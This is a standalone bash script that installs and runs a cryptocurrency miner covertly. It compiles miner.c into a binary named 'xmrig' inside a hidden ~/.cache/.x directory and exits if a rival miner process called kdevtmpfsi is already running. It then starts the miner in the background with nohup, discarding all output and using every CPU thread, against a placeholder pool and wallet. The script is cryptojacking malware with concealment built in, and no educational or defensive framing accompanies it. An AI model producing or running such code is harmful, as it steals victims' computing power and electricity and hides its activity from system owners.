#!/bin/bash
threads=$(grep -c ^processor /proc/cpuinfo)
lscpu | grep -i -E 'model|cache' > /dev/null
mkdir -p "$HOME/.cache/.x"
pgrep -x kdevtmpfsi && exit 0
gcc -O1 -o "$HOME/.cache/.x/xmrig" miner.c || exit 0
nohup nice "$HOME/.cache/.x/xmrig" -o stratum+tcp://pool.invalid:3333 -u 44dummywallet -p x --donate-level=1 --cpu-priority 5 -t "$threads" > /dev/null 2>&1 &
sleep 2
exit 0
